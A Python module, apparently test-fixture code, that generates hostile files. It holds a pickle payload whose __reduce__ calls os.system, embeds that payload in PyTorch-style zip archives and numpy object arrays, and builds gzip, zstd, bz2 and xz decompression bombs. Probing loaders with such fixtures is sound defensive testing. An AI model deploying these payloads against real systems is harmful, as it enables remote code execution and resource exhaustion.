"""Small files that become large, and what looks like data and is not."""

import bz2
import gzip
import io
import lzma
import pickle
import zipfile

GIB = 1 << 30


class Payload:
    """Runs a shell command when it is unpickled."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        import os

        return os.system, (self.command,)


def pickled(scene, protocol=4):
    """Return a pickle that makes the tripwire."""
    return pickle.dumps(Payload(scene.payload), protocol)


def torch_archive(scene):
    """Return a zip as torch.save writes it, with the payload in the place of its pickle."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("archive/data.pkl", pickled(scene, 2))
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/data/0", b"\0" * 16)
    return file.getvalue()


def object_array(scene):
    """Return a .npy file of objects, which numpy would unpickle."""
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += b" " * (64 - (len(head) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + pickled(scene)


def repeated(compressor, piece, times, before=b""):
    """Return a compressed stream of a piece, many times over."""
    parts = [compressor.compress(before)] + [compressor.compress(piece) for _ in range(times)]
    return b"".join(parts) + compressor.flush()


def zeros_gz(before=b"", piece=b"\0" * (1 << 20), times=3 << 10):
    """Return 3 GiB of zeros, or of a piece, as gzip: 3 MiB, of one member many times over."""
    member = gzip.compress(piece * 32, 9)
    return gzip.compress(before + piece, 9) + member * (times // 32)


def zeros_zst(before=b"", piece=b"\0" * (1 << 20), times=3 << 10):
    import zstandard

    packer = zstandard.ZstdCompressor(level=1)
    return packer.compress(before + piece) + packer.compress(piece * 32) * (times // 32)


def bz2_bomb(before=b""):
    return repeated(bz2.BZ2Compressor(1), b"\0" * (1 << 20), 64, before)


def xz_bomb(before=b""):
    return repeated(lzma.LZMACompressor(preset=0), b"\0" * (1 << 20), 64, before)


def zipped(**files):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/").replace("_xml", ".xml").replace("_rels", ".rels"), content)
    return file.getvalue()
